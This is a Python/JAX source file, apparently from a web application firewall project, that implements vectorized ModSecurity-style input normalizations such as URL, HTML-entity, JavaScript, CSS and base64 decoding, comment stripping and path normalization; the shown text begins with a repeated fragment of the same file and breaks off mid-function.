    return out[:, :ln]


# --- simple elementwise ----------------------------------------------------

def t_none(sym):
    return sym


def t_lowercase(sym):
    return jnp.where((sym >= 0x41) & (sym <= 0x5A), sym + 32, sym)


def t_uppercase(sym):
    return jnp.where((sym >= 0x61) & (sym <= 0x7A), sym - 32, sym)


def t_replacenulls(sym):
    return jnp.where(sym == 0, 0x20, sym)


def t_removenulls(sym):
    return compact(sym, sym != 0)


def t_removewhitespace(sym):
    return compact(sym, ~(_is_ws(sym) & _is_byte(sym)))


def t_compresswhitespace(sym):
    ws = _is_ws(sym) & _is_byte(sym)
    mapped = jnp.where(ws, 0x20, sym)
    prev_ws = _shift_right(ws, 1, False)
    return compact(mapped, ~(ws & prev_ws))


# --- segmented trims -------------------------------------------------------

def _leading_ws_mask(sym):
    """ws positions with only ws between them and their value's BOS."""
    ws = _is_ws6(sym)  # trim semantics: the 6 C-locale ws bytes only
    is_bos = sym == BOS

    def step(carry, cols):
        ws_i, bos_i = cols
        lead = ws_i & (carry | bos_i)
        # carry for next position: we are "in leading run" if lead, and a
        # BOS restarts the run unconditionally
        return lead | bos_i, lead

    # scan along L; carry [N] bool ("previous position allows leading")
    init = jnp.zeros(sym.shape[0], dtype=bool)
    _, leads = jax.lax.scan(
        step, init, (ws.T, is_bos.T))
    return leads.T


def t_trimleft(sym):
    return compact(sym, ~_leading_ws_mask(sym))


def t_trimright(sym):
    rev = sym[:, ::-1]
    ws = _is_ws6(rev)
    is_eos = rev == EOS

    def step(carry, cols):
        ws_i, eos_i = cols
        trail = ws_i & (carry | eos_i)
        return trail | eos_i, trail

    init = jnp.zeros(sym.shape[0], dtype=bool)
    _, trails = jax.lax.scan(step, init, (ws.T, is_eos.T))
    return compact(sym, ~trails.T[:, ::-1])


def t_trim(sym):
    return t_trimright(t_trimleft(sym))


# --- escape decoding -------------------------------------------------------

def _hex_val(sym):
    """Hex digit value or -1."""
    d = (sym >= 0x30) & (sym <= 0x39)
    a = (sym >= 0x61) & (sym <= 0x66)
    A = (sym >= 0x41) & (sym <= 0x46)
    return jnp.where(d, sym - 0x30,
                     jnp.where(a, sym - 0x57, jnp.where(A, sym - 0x37, -1)))


def _url_decode(sym, uni: bool):
    s1 = _shift_left(sym, 1, PAD)
    s2 = _shift_left(sym, 2, PAD)
    h1, h2 = _hex_val(s1), _hex_val(s2)
    esc2 = (sym == 0x25) & (h1 >= 0) & (h2 >= 0)  # %XX
    out = jnp.where(esc2, h1 * 16 + h2, sym)
    span = jnp.where(esc2, 3, 1)
    if uni:
        s3 = _shift_left(sym, 3, PAD)
        s4 = _shift_left(sym, 4, PAD)
        s5 = _shift_left(sym, 5, PAD)
        hs = [_hex_val(x) for x in (s2, s3, s4, s5)]
        is_u = (s1 == 0x75) | (s1 == 0x55)
        esc6 = (sym == 0x25) & is_u & (hs[0] >= 0) & (hs[1] >= 0) & \
            (hs[2] >= 0) & (hs[3] >= 0)
        cp = ((hs[0] * 16 + hs[1]) * 16 + hs[2]) * 16 + hs[3]
        folded = jnp.where((cp >= 0xFF01) & (cp <= 0xFF5E), cp - 0xFEE0,
                           jnp.where(cp <= 0xFF, cp, cp & 0xFF))
        out = jnp.where(esc6, folded, out)
        span = jnp.where(esc6, 6, span)
    out = jnp.where((sym == 0x2B) & _is_byte(sym), 0x20, out)  # '+'
    # drop positions covered by a preceding escape start
    covered = jnp.zeros_like(sym, dtype=bool)
    max_span = 6 if uni else 3
    start = span > 1
    for k in range(1, max_span):
        covered = covered | (_shift_right(start & (span > k), k, False))
    return compact(out, ~covered)


def t_urldecode(sym):
    return _url_decode(sym, uni=False)


def t_urldecodeuni(sym):
    return _url_decode(sym, uni=True)


_NAMED_ENTITIES = [
    (b"quot;", ord('"')),
    (b"amp;", ord("&")),
    (b"lt;", ord("<")),
    (b"gt;", ord(">")),
    (b"nbsp;", 0xA0),
]


def t_htmlentitydecode(sym):
    n, ln = sym.shape
    shifts = [_shift_left(sym, k, PAD) for k in range(0, 10)]
    lower = [t_lowercase(s) for s in shifts]
    amp = sym == 0x26
    out = sym
    span = jnp.ones_like(sym)
    # named entities (case-insensitive)
    for name, val in _NAMED_ENTITIES:
        m = amp
        for k, ch in enumerate(name):
            m = m & (lower[k + 1] == ch)
        out = jnp.where(m, val, out)
        span = jnp.where(m, len(name) + 1, span)
    # numeric decimal &#d{1,7}; and hex &#x h{1,6};
    hash_ = shifts[1] == 0x23
    for nd in range(1, 8):
        m = amp & hash_
        value = jnp.zeros_like(sym)
        for k in range(nd):
            d = shifts[2 + k]
            m = m & (d >= 0x30) & (d <= 0x39)
            value = value * 10 + (d - 0x30)
        m = m & (shifts[2 + nd] == 0x3B)
        out = jnp.where(m, value & 0xFF, out)
        span = jnp.where(m, nd + 3, span)
    is_x = (lower[2] == 0x78)
    for nh in range(1, 7):
        m = amp & hash_ & is_x
        value = jnp.zeros_like(sym)
        for k in range(nh):
            h = _hex_val(shifts[3 + k])
            m = m & (h >= 0)
            value = value * 16 + h
        m = m & (shifts[3 + nh] == 0x3B)
        out = jnp.where(m, value & 0xFF, out)
        span = jnp.where(m, nh + 4, span)
    start = span > 1
    covered = jnp.zeros_like(sym, dtype=bool)
    for k in range(1, 10):
        covered = covered | _shift_right(start & (span > k), k, False)
    return compact(out, ~covered)


def _backslash_escape_starts(sym):
    """Positions where a backslash BEGINS an escape (preceded by an even
    number of consecutive backslashes). q[i] = b[i] & ~q[i-1] gives the
    parity of the backslash run ending at i; q is True exactly at odd
    positions of each run, i.e. at escape starts ("\\\\" = one escaped
    backslash, only the first is a start)."""
    b = (sym == 0x5C)

    def step(carry, col):
        q = col & ~carry
        return q, q

    init = jnp.zeros(sym.shape[0], dtype=bool)
    _, qs = jax.lax.scan(step, init, b.T)
    return qs.T


def t_jsdecode(sym):
    """JavaScript escape decoding, exact vs engine.transforms.t_jsdecode:
    \\uXXXX (fullwidth-folded), \\xXX, octal \\o{1,3} (greedy), named
    single-char escapes, else drop the backslash. Escape spans after the
    start contain only hex/octal digits or one literal char, so spans
    never contain another escape START (the parity scan handles
    consecutive backslashes)."""
    start = _backslash_escape_starts(sym)
    shifts = [_shift_left(sym, k, PAD) for k in range(0, 6)]
    s1 = shifts[1]
    # \uXXXX
    hu = [_hex_val(shifts[k]) for k in (2, 3, 4, 5)]
    is_u = (s1 == 0x75) | (s1 == 0x55)
    esc_u = start & is_u & (hu[0] >= 0) & (hu[1] >= 0) & (hu[2] >= 0) & \
        (hu[3] >= 0)
    cp = ((hu[0] * 16 + hu[1]) * 16 + hu[2]) * 16 + hu[3]
    # _fold_fullwidth: FF01-FF5E -> ASCII; else chr(cp) & host keeps the
    # code point, but streams carry bytes: the host packer truncates
    # non-latin1 code points the same way chr(cp) later byte-encodes —
    # mirror engine semantics: fold, else cp if <=0xFF else cp & 0xFF
    folded = jnp.where((cp >= 0xFF01) & (cp <= 0xFF5E), cp - 0xFEE0,
                       jnp.where(cp <= 0xFF, cp, cp & 0xFF))
    # \xXX
    hx = [_hex_val(shifts[k]) for k in (2, 3)]
    is_x = (s1 == 0x78) | (s1 == 0x58)
    esc_x = start & ~esc_u & is_x & (hx[0] >= 0) & (hx[1] >= 0)
    xval = hx[0] * 16 + hx[1]
    # octal \d{1,3} greedy
    def is_oct(s):
        return (s >= 0x30) & (s <= 0x37)
    o1, o2, o3 = is_oct(s1), is_oct(shifts[2]), is_oct(shifts[3])
    esc_o = start & ~esc_u & ~esc_x & o1
    ndig = jnp.where(o1 & o2 & o3, 3, jnp.where(o1 & o2, 2, 1))
    oval = jnp.where(
        o1 & o2 & o3,
        ((s1 - 0x30) * 8 + (shifts[2] - 0x30)) * 8 + (shifts[3] - 0x30),
        jnp.where(o1 & o2, (s1 - 0x30) * 8 + (shifts[2] - 0x30),
                  s1 - 0x30)) & 0xFF
    # single-char: named map or identity; only when next is a real byte
    esc_c = start & ~esc_u & ~esc_x & ~esc_o & _is_byte(s1)
    cval = s1
    for name, val in ((0x61, 7), (0x62, 8), (0x66, 12), (0x6E, 10),
                      (0x72, 13), (0x74, 9), (0x76, 11)):
        cval = jnp.where(s1 == name, val, cval)
    out = jnp.where(esc_u, folded,
                    jnp.where(esc_x, xval,
                              jnp.where(esc_o, oval,
                                        jnp.where(esc_c, cval, sym))))
    span = jnp.where(esc_u, 6,
                     jnp.where(esc_x, 4,
                               jnp.where(esc_o, 1 + ndig,
                                         jnp.where(esc_c, 2, 1))))
    covered = jnp.zeros_like(sym, dtype=bool)
    is_start = span > 1
    for k in range(1, 6):
        covered = covered | _shift_right(is_start & (span > k), k, False)
    return compact(out, ~covered)


def t_cssdecode(sym):
    """CSS escape decoding, exact vs engine.transforms.t_cssdecode:
    backslash + 1-6 hex digits (+ optional single space terminator) ->
    char(value & 0xFF); backslash+newline removed; else backslash
    dropped, next char kept."""
    start = _backslash_escape_starts(sym)
    shifts = [_shift_left(sym, k, PAD) for k in range(0, 8)]
    hvals = [_hex_val(shifts[k]) for k in range(1, 8)]
    is_hex = [h >= 0 for h in hvals]
    # number of hex digits following the backslash (0..6, greedy)
    nhex = jnp.zeros_like(sym)
    run = jnp.ones_like(sym, dtype=bool)
    for k in range(6):
        run = run & is_hex[k]
        nhex = jnp.where(run, k + 1, nhex)
    esc_h = start & (nhex > 0)
    value = jnp.zeros_like(sym)
    for k in range(6):
        take = nhex > k
        value = jnp.where(take, value * 16 + jnp.where(take, hvals[k], 0),
                          value)
    # optional terminating space after the last hex digit
    after = jnp.zeros_like(sym)
    for nd in range(1, 7):
        after = jnp.where(nhex == nd, shifts[nd + 1], after)
    has_sp = esc_h & (after == 0x20)
    esc_nl = start & ~esc_h & (shifts[1] == 0x0A)
    esc_c = start & ~esc_h & ~esc_nl & _is_byte(shifts[1])
    out = jnp.where(esc_h, value & 0xFF,
                    jnp.where(esc_c, shifts[1], sym))
    span = jnp.where(esc_h, 1 + nhex + has_sp.astype(jnp.int32),
                     jnp.where(esc_nl | esc_c, 2, 1))
    covered = jnp.zeros_like(sym, dtype=bool)
    is_start = span > 1
    for k in range(1, 8):
        covered = covered | _shift_right(is_start & (span > k), k, False)
    # escaped newline produces NO output: drop its start position too
    return compact(out, ~covered & ~esc_nl)


def t_cmdline(sym):
    # 1. delete \ " ' ^ ; 2. , ; -> space; 3. lowercase; 4. compress ws;
    # 5. remove space before / and (
    deleted = (sym == 0x5C) | (sym == 0x22) | (sym == 0x27) | (sym == 0x5E)
    sym = compact(sym, ~deleted)
    sym = jnp.where((sym == 0x2C) | (sym == 0x3B), 0x20, sym)
    sym = t_lowercase(sym)
    ws = _is_ws6(sym) & _is_byte(sym)
    sym = jnp.where(ws, 0x20, sym)
    prev_ws = _shift_right(ws, 1, False)
    sym = compact(sym, ~(ws & prev_ws))
    nxt = _shift_left(sym, 1, PAD)
    drop = (sym == 0x20) & ((nxt == 0x2F) | (nxt == 0x28))
    return compact(sym, ~drop)


JAX_TRANSFORMS = {
    "none": t_none,
    "lowercase": t_lowercase,
    "uppercase": t_uppercase,
    "urldecode": t_urldecode,
    "urldecodeuni": t_urldecodeuni,
    "htmlentitydecode": t_htmlentitydecode,
    "removenulls": t_removenulls,
    "replacenulls": t_replacenulls,
    "removewhitespace": t_removewhitespace,
    "compresswhitespace": t_compresswhitespace,
    "trim": t_trim,
    "trimleft": t_trimleft,
    "trimright": t_trimright,
    "cmdline": t_cmdline,
    "jsdecode": t_jsdecode,
    "cssdecode": t_cssdecode,
}


def apply_chain(sym, names: tuple[str, ...]):
    for name in names:
        sym = JAX_TRANSFORMS[name](sym)
    return sym
