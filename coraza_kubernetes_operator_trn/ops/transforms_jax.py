"""Vectorized SecLang transformations on symbol streams.

Each transform maps int32 [N, L] symbol arrays -> [N, L], operating only on
byte symbols (<256); BOS/EOS/PAD pass through untouched, so per-value
semantics survive. Shrinking transforms (urlDecode, removeNulls, ...) use
stream compaction: keep-mask -> cumsum positions -> scatter, with PAD
filling the tail. This is VectorE/ScalarE-shaped work: elementwise selects,
shifted comparisons, one prefix-sum, one scatter — no data-dependent
control flow, fully jit-compatible.

Every function here is differentially tested against engine/transforms.py
(the exact CPU semantics) in tests/test_ops_jax.py.

Escape-decode parallelism note: %XX / %uXXXX escape spans contain only hex
digits and 'u' after the '%', never another '%', so escape starts cannot
overlap — start detection is a purely local predicate. The same argument
holds for HTML entities (bodies never contain '&'). This is what makes
single-pass parallel decoding exact, not approximate.
"""

from __future__ import annotations

import jax
import jax.numpy as jnp

from .packing import PAD
from ..compiler.nfa import BOS, EOS

_WS_BYTES = (0x20, 0x09, 0x0A, 0x0D, 0x0C, 0x0B)


def _is_byte(sym):
    return sym < 256


def _is_ws6(sym):
    """The 6 C-locale whitespace bytes (cmdLine/trim semantics)."""
    m = jnp.zeros_like(sym, dtype=bool)
    for w in _WS_BYTES:
        m = m | (sym == w)
    return m


def _is_ws(sym):
    """Whitespace incl. non-breaking space (remove/compressWhitespace)."""
    return _is_ws6(sym) | (sym == 0xA0)


def _shift_left(x, k, fill):
    """x[i] <- x[i+k] (peek forward); fill at the end."""
    if k == 0:
        return x
    return jnp.concatenate(
        [x[:, k:], jnp.full((x.shape[0], k), fill, x.dtype)], axis=1)


def _shift_right(x, k, fill):
    if k == 0:
        return x
    return jnp.concatenate(
        [jnp.full((x.shape[0], k), fill, x.dtype), x[:, :-k]], axis=1)


def compact(sym, keep):
    """Drop positions where keep is False; left-pack; PAD tail.

    keep must be True for all marker symbols (callers only drop bytes).
    """
    n, ln = sym.shape
    pos = jnp.cumsum(keep.astype(jnp.int32), axis=1) - 1
    pos = jnp.where(keep, pos, ln)  # dropped -> scatter into overflow slot
    out = jnp.full((n, ln + 1), PAD, dtype=sym.dtype)
    out = jax.vmap(lambda o, p, s: o.at[p].set(s))(out, pos, sym)
    return out[:, :ln]


# --- simple elementwise ----------------------------------------------------

def t_none(sym):
    return sym


def t_lowercase(sym):
    return jnp.where((sym >= 0x41) & (sym <= 0x5A), sym + 32, sym)


def t_uppercase(sym):
    return jnp.where((sym >= 0x61) & (sym <= 0x7A), sym - 32, sym)


def t_replacenulls(sym):
    return jnp.where(sym == 0, 0x20, sym)


def t_removenulls(sym):
    return compact(sym, sym != 0)


def t_removewhitespace(sym):
    return compact(sym, ~(_is_ws(sym) & _is_byte(sym)))


def t_compresswhitespace(sym):
    ws = _is_ws(sym) & _is_byte(sym)
    mapped = jnp.where(ws, 0x20, sym)
    prev_ws = _shift_right(ws, 1, False)
    return compact(mapped, ~(ws & prev_ws))


# --- segmented trims -------------------------------------------------------

def _leading_ws_mask(sym):
    """ws positions with only ws between them and their value's BOS."""
    ws = _is_ws6(sym)  # trim semantics: the 6 C-locale ws bytes only
    is_bos = sym == BOS

    def step(carry, cols):
        ws_i, bos_i = cols
        lead = ws_i & (carry | bos_i)
        # carry for next position: we are "in leading run" if lead, and a
        # BOS restarts the run unconditionally
        return lead | bos_i, lead

    # scan along L; carry [N] bool ("previous position allows leading")
    init = jnp.zeros(sym.shape[0], dtype=bool)
    _, leads = jax.lax.scan(
        step, init, (ws.T, is_bos.T))
    return leads.T


def t_trimleft(sym):
    return compact(sym, ~_leading_ws_mask(sym))


def t_trimright(sym):
    rev = sym[:, ::-1]
    ws = _is_ws6(rev)
    is_eos = rev == EOS

    def step(carry, cols):
        ws_i, eos_i = cols
        trail = ws_i & (carry | eos_i)
        return trail | eos_i, trail

    init = jnp.zeros(sym.shape[0], dtype=bool)
    _, trails = jax.lax.scan(step, init, (ws.T, is_eos.T))
    return compact(sym, ~trails.T[:, ::-1])


def t_trim(sym):
    return t_trimright(t_trimleft(sym))


# --- escape decoding -------------------------------------------------------

def _hex_val(sym):
    """Hex digit value or -1."""
    d = (sym >= 0x30) & (sym <= 0x39)
    a = (sym >= 0x61) & (sym <= 0x66)
    A = (sym >= 0x41) & (sym <= 0x46)
    return jnp.where(d, sym - 0x30,
                     jnp.where(a, sym - 0x57, jnp.where(A, sym - 0x37, -1)))


def _url_decode(sym, uni: bool):
    s1 = _shift_left(sym, 1, PAD)
    s2 = _shift_left(sym, 2, PAD)
    h1, h2 = _hex_val(s1), _hex_val(s2)
    esc2 = (sym == 0x25) & (h1 >= 0) & (h2 >= 0)  # %XX
    out = jnp.where(esc2, h1 * 16 + h2, sym)
    span = jnp.where(esc2, 3, 1)
    if uni:
        s3 = _shift_left(sym, 3, PAD)
        s4 = _shift_left(sym, 4, PAD)
        s5 = _shift_left(sym, 5, PAD)
        hs = [_hex_val(x) for x in (s2, s3, s4, s5)]
        is_u = (s1 == 0x75) | (s1 == 0x55)
        esc6 = (sym == 0x25) & is_u & (hs[0] >= 0) & (hs[1] >= 0) & \
            (hs[2] >= 0) & (hs[3] >= 0)
        cp = ((hs[0] * 16 + hs[1]) * 16 + hs[2]) * 16 + hs[3]
        folded = jnp.where((cp >= 0xFF01) & (cp <= 0xFF5E), cp - 0xFEE0,
                           jnp.where(cp <= 0xFF, cp, cp & 0xFF))
        out = jnp.where(esc6, folded, out)
        span = jnp.where(esc6, 6, span)
    out = jnp.where((sym == 0x2B) & _is_byte(sym), 0x20, out)  # '+'
    # drop positions covered by a preceding escape start
    covered = jnp.zeros_like(sym, dtype=bool)
    max_span = 6 if uni else 3
    start = span > 1
    for k in range(1, max_span):
        covered = covered | (_shift_right(start & (span > k), k, False))
    return compact(out, ~covered)


def t_urldecode(sym):
    return _url_decode(sym, uni=False)


def t_urldecodeuni(sym):
    return _url_decode(sym, uni=True)


_NAMED_ENTITIES = [
    (b"quot;", ord('"')),
    (b"amp;", ord("&")),
    (b"lt;", ord("<")),
    (b"gt;", ord(">")),
    (b"nbsp;", 0xA0),
]


def t_htmlentitydecode(sym):
    n, ln = sym.shape
    shifts = [_shift_left(sym, k, PAD) for k in range(0, 10)]
    lower = [t_lowercase(s) for s in shifts]
    amp = sym == 0x26
    out = sym
    span = jnp.ones_like(sym)
    # named entities (case-insensitive)
    for name, val in _NAMED_ENTITIES:
        m = amp
        for k, ch in enumerate(name):
            m = m & (lower[k + 1] == ch)
        out = jnp.where(m, val, out)
        span = jnp.where(m, len(name) + 1, span)
    # numeric decimal &#d{1,7}; and hex &#x h{1,6};
    hash_ = shifts[1] == 0x23
    for nd in range(1, 8):
        m = amp & hash_
        value = jnp.zeros_like(sym)
        for k in range(nd):
            d = shifts[2 + k]
            m = m & (d >= 0x30) & (d <= 0x39)
            value = value * 10 + (d - 0x30)
        m = m & (shifts[2 + nd] == 0x3B)
        out = jnp.where(m, value & 0xFF, out)
        span = jnp.where(m, nd + 3, span)
    is_x = (lower[2] == 0x78)
    for nh in range(1, 7):
        m = amp & hash_ & is_x
        value = jnp.zeros_like(sym)
        for k in range(nh):
            h = _hex_val(shifts[3 + k])
            m = m & (h >= 0)
            value = value * 16 + h
        m = m & (shifts[3 + nh] == 0x3B)
        out = jnp.where(m, value & 0xFF, out)
        span = jnp.where(m, nh + 4, span)
    start = span > 1
    covered = jnp.zeros_like(sym, dtype=bool)
    for k in range(1, 10):
        covered = covered | _shift_right(start & (span > k), k, False)
    return compact(out, ~covered)


def _backslash_escape_starts(sym):
    """Positions where a backslash BEGINS an escape (preceded by an even
    number of consecutive backslashes). q[i] = b[i] & ~q[i-1] gives the
    parity of the backslash run ending at i; q is True exactly at odd
    positions of each run, i.e. at escape starts ("\\\\" = one escaped
    backslash, only the first is a start)."""
    b = (sym == 0x5C)

    def step(carry, col):
        q = col & ~carry
        return q, q

    init = jnp.zeros(sym.shape[0], dtype=bool)
    _, qs = jax.lax.scan(step, init, b.T)
    return qs.T


def t_jsdecode(sym):
    """JavaScript escape decoding, exact vs engine.transforms.t_jsdecode:
    \\uXXXX (fullwidth-folded), \\xXX, octal \\o{1,3} (greedy), named
    single-char escapes, else drop the backslash. Escape spans after the
    start contain only hex/octal digits or one literal char, so spans
    never contain another escape START (the parity scan handles
    consecutive backslashes)."""
    start = _backslash_escape_starts(sym)
    shifts = [_shift_left(sym, k, PAD) for k in range(0, 6)]
    s1 = shifts[1]
    # \uXXXX
    hu = [_hex_val(shifts[k]) for k in (2, 3, 4, 5)]
    is_u = (s1 == 0x75) | (s1 == 0x55)
    esc_u = start & is_u & (hu[0] >= 0) & (hu[1] >= 0) & (hu[2] >= 0) & \
        (hu[3] >= 0)
    cp = ((hu[0] * 16 + hu[1]) * 16 + hu[2]) * 16 + hu[3]
    # _fold_fullwidth: FF01-FF5E -> ASCII; else chr(cp) & host keeps the
    # code point, but streams carry bytes: the host packer truncates
    # non-latin1 code points the same way chr(cp) later byte-encodes —
    # mirror engine semantics: fold, else cp if <=0xFF else cp & 0xFF
    folded = jnp.where((cp >= 0xFF01) & (cp <= 0xFF5E), cp - 0xFEE0,
                       jnp.where(cp <= 0xFF, cp, cp & 0xFF))
    # \xXX
    hx = [_hex_val(shifts[k]) for k in (2, 3)]
    is_x = (s1 == 0x78) | (s1 == 0x58)
    esc_x = start & ~esc_u & is_x & (hx[0] >= 0) & (hx[1] >= 0)
    xval = hx[0] * 16 + hx[1]
    # octal \d{1,3} greedy
    def is_oct(s):
        return (s >= 0x30) & (s <= 0x37)
    o1, o2, o3 = is_oct(s1), is_oct(shifts[2]), is_oct(shifts[3])
    esc_o = start & ~esc_u & ~esc_x & o1
    ndig = jnp.where(o1 & o2 & o3, 3, jnp.where(o1 & o2, 2, 1))
    oval = jnp.where(
        o1 & o2 & o3,
        ((s1 - 0x30) * 8 + (shifts[2] - 0x30)) * 8 + (shifts[3] - 0x30),
        jnp.where(o1 & o2, (s1 - 0x30) * 8 + (shifts[2] - 0x30),
                  s1 - 0x30)) & 0xFF
    # single-char: named map or identity; only when next is a real byte
    esc_c = start & ~esc_u & ~esc_x & ~esc_o & _is_byte(s1)
    cval = s1
    for name, val in ((0x61, 7), (0x62, 8), (0x66, 12), (0x6E, 10),
                      (0x72, 13), (0x74, 9), (0x76, 11)):
        cval = jnp.where(s1 == name, val, cval)
    out = jnp.where(esc_u, folded,
                    jnp.where(esc_x, xval,
                              jnp.where(esc_o, oval,
                                        jnp.where(esc_c, cval, sym))))
    span = jnp.where(esc_u, 6,
                     jnp.where(esc_x, 4,
                               jnp.where(esc_o, 1 + ndig,
                                         jnp.where(esc_c, 2, 1))))
    covered = jnp.zeros_like(sym, dtype=bool)
    is_start = span > 1
    for k in range(1, 6):
        covered = covered | _shift_right(is_start & (span > k), k, False)
    return compact(out, ~covered)


def t_cssdecode(sym):
    """CSS escape decoding, exact vs engine.transforms.t_cssdecode:
    backslash + 1-6 hex digits (+ optional single space terminator) ->
    char(value & 0xFF); backslash+newline removed; else backslash
    dropped, next char kept."""
    start = _backslash_escape_starts(sym)
    shifts = [_shift_left(sym, k, PAD) for k in range(0, 8)]
    hvals = [_hex_val(shifts[k]) for k in range(1, 8)]
    is_hex = [h >= 0 for h in hvals]
    # number of hex digits following the backslash (0..6, greedy)
    nhex = jnp.zeros_like(sym)
    run = jnp.ones_like(sym, dtype=bool)
    for k in range(6):
        run = run & is_hex[k]
        nhex = jnp.where(run, k + 1, nhex)
    esc_h = start & (nhex > 0)
    value = jnp.zeros_like(sym)
    for k in range(6):
        take = nhex > k
        value = jnp.where(take, value * 16 + jnp.where(take, hvals[k], 0),
                          value)
    # optional terminating space after the last hex digit
    after = jnp.zeros_like(sym)
    for nd in range(1, 7):
        after = jnp.where(nhex == nd, shifts[nd + 1], after)
    has_sp = esc_h & (after == 0x20)
    esc_nl = start & ~esc_h & (shifts[1] == 0x0A)
    esc_c = start & ~esc_h & ~esc_nl & _is_byte(shifts[1])
    out = jnp.where(esc_h, value & 0xFF,
                    jnp.where(esc_c, shifts[1], sym))
    span = jnp.where(esc_h, 1 + nhex + has_sp.astype(jnp.int32),
                     jnp.where(esc_nl | esc_c, 2, 1))
    covered = jnp.zeros_like(sym, dtype=bool)
    is_start = span > 1
    for k in range(1, 8):
        covered = covered | _shift_right(is_start & (span > k), k, False)
    # escaped newline produces NO output: drop its start position too
    return compact(out, ~covered & ~esc_nl)


def t_cmdline(sym):
    # 1. delete \ " ' ^ ; 2. , ; -> space; 3. lowercase; 4. compress ws;
    # 5. remove space before / and (
    deleted = (sym == 0x5C) | (sym == 0x22) | (sym == 0x27) | (sym == 0x5E)
    sym = compact(sym, ~deleted)
    sym = jnp.where((sym == 0x2C) | (sym == 0x3B), 0x20, sym)
    sym = t_lowercase(sym)
    ws = _is_ws6(sym) & _is_byte(sym)
    sym = jnp.where(ws, 0x20, sym)
    prev_ws = _shift_right(ws, 1, False)
    sym = compact(sym, ~(ws & prev_ws))
    nxt = _shift_left(sym, 1, PAD)
    drop = (sym == 0x20) & ((nxt == 0x2F) | (nxt == 0x28))
    return compact(sym, ~drop)


# --- segmented scans: base64 / comments / paths / utf8 ---------------------


def _b64_val(sym):
    """Base64 alphabet value (0..63) or -1."""
    up = (sym >= 0x41) & (sym <= 0x5A)
    lo = (sym >= 0x61) & (sym <= 0x7A)
    dg = (sym >= 0x30) & (sym <= 0x39)
    return jnp.where(up, sym - 0x41,
                     jnp.where(lo, sym - 0x61 + 26,
                               jnp.where(dg, sym - 0x30 + 52,
                                         jnp.where(sym == 0x2B, 62,
                                                   jnp.where(sym == 0x2F,
                                                             63, -1)))))


def t_base64decode(sym):
    """ModSecurity base64Decode: decode the longest valid-prefix of each
    value ('=' or any invalid char terminates), exact vs the host
    ``engine.transforms.t_base64decode``. Chars at prefix index i%4==0
    emit nothing; i%4==k emits the byte spanning chars k-1,k — which is
    precisely python b64decode's output for the '='-padded prefix, so a
    2-char tail yields 1 byte and a 3-char tail 2 bytes."""
    v6 = _b64_val(sym)
    valid = (v6 >= 0) & _is_byte(sym)
    is_bos = sym == BOS

    def step(carry, cols):
        in_pref, idx = carry
        valid_i, bos_i = cols
        in_new = jnp.where(bos_i, True, in_pref & valid_i)
        idx_out = jnp.where(bos_i, 0, idx)
        idx_new = jnp.where(bos_i, 0, idx + (in_new & valid_i))
        return (in_new, idx_new), (in_new & valid_i, idx_out)

    n = sym.shape[0]
    init = (jnp.zeros(n, dtype=bool), jnp.zeros(n, dtype=jnp.int32))
    _, (in_prefix, idx) = jax.lax.scan(
        step, init, (valid.T, is_bos.T))
    in_prefix, idx = in_prefix.T, idx.T
    prev_v = _shift_right(v6, 1, 0)
    mod = idx % 4
    b0 = (prev_v << 2) | (v6 >> 4)
    b1 = ((prev_v & 0xF) << 4) | (v6 >> 2)
    b2 = ((prev_v & 0x3) << 6) | v6
    out = jnp.where(mod == 1, b0, jnp.where(mod == 2, b1, b2))
    emit = in_prefix & (mod > 0)
    keep = ~_is_byte(sym) | emit
    return compact(jnp.where(emit, out, sym), keep)


def t_removecomments(sym):
    """ModSecurity removeComments: strip /*...*/ (unclosed kills the
    rest), and -- or # kill the rest of the value. 4-state scan per
    value: NORMAL / SKIP(consume closer char) / COMMENT / DEAD."""
    NORMAL, SKIP_C, COMMENT, SKIP_N, DEAD = 0, 1, 2, 3, 4
    nxt = _shift_left(sym, 1, PAD)
    open_c = (sym == 0x2F) & (nxt == 0x2A)  # /*
    close_c = (sym == 0x2A) & (nxt == 0x2F)  # */
    dashdash = (sym == 0x2D) & (nxt == 0x2D)
    hash_ = sym == 0x23
    is_bos = sym == BOS
    is_b = _is_byte(sym)

    def step(state, cols):
        open_i, close_i, dd_i, h_i, bos_i, byte_i = cols
        keep = (state == NORMAL) & ~(open_i | dd_i | h_i)
        new = jnp.where(
            state == NORMAL,
            jnp.where(open_i, SKIP_C,
                      jnp.where(dd_i | h_i, DEAD, NORMAL)),
            jnp.where(state == SKIP_C, COMMENT,
                      jnp.where(state == COMMENT,
                                jnp.where(close_i, SKIP_N, COMMENT),
                                jnp.where(state == SKIP_N, NORMAL,
                                          DEAD))))
        new = jnp.where(bos_i | ~byte_i, NORMAL, new)
        keep = keep | ~byte_i
        return new, keep

    init = jnp.zeros(sym.shape[0], dtype=jnp.int32)
    _, keeps = jax.lax.scan(
        step, init,
        (open_c.T, close_c.T, dashdash.T, hash_.T, is_bos.T, is_b.T))
    return compact(sym, keeps.T)


def _normalizepath_collapsed(sym):
    """Path normalization on a slash-run-collapsed stream. See
    engine.transforms.t_normalizepath for the host spec; this resolves
    '.' and '..' segments with a clamped-depth scan (push per real
    segment, pop per '..') plus a suffix-min scan deciding which pushes
    survive — the parenthesis-matching formulation of the host's
    stack."""
    is_b = _is_byte(sym)
    is_bos = sym == BOS
    slash = (sym == 0x2F) & is_b
    prev = _shift_right(sym, 1, PAD)
    nxt = _shift_left(sym, 1, PAD)
    n2 = _shift_left(sym, 2, PAD)
    p_edge = (prev == 0x2F) | (prev == BOS)
    n_edge = (nxt == 0x2F) | (nxt == EOS)
    n2_edge = (n2 == 0x2F) | (n2 == EOS)
    dot = sym == 0x2E
    dot_seg = is_b & dot & p_edge & n_edge  # lone "."
    dd_start = is_b & dot & (nxt == 0x2E) & p_edge & n2_edge  # ".." 1st
    dd_second = _shift_right(dd_start, 1, False)  # ".." 2nd char
    seg_char = is_b & ~slash & ~dot_seg & ~dd_start & ~dd_second
    seg_start = seg_char & p_edge
    seg_end = seg_char & n_edge

    # forward scan: clamped depth + per-real-segment assigned depth +
    # relative-path flag (first byte of the value is not '/') + kept '..'
    def fwd(carry, cols):
        d, assigned, at_start, relative = carry
        (seg_start_i, seg_char_i, dd_i, slash_i, bos_i, byte_i) = cols
        rel_new = jnp.where(bos_i, True,
                            jnp.where(at_start & byte_i, ~slash_i,
                                      relative))
        d1 = jnp.where(seg_start_i, d + 1, d)
        assigned_out = jnp.where(seg_start_i, d + 1,
                                 jnp.where(seg_char_i, assigned, 0))
        popped = dd_i & (d1 > 0)
        kept_dd = dd_i & (d1 == 0) & rel_new
        d2 = jnp.where(popped, d1 - 1, d1)
        d_reset = jnp.where(bos_i, 0, d2)
        at_start_new = jnp.where(bos_i, True,
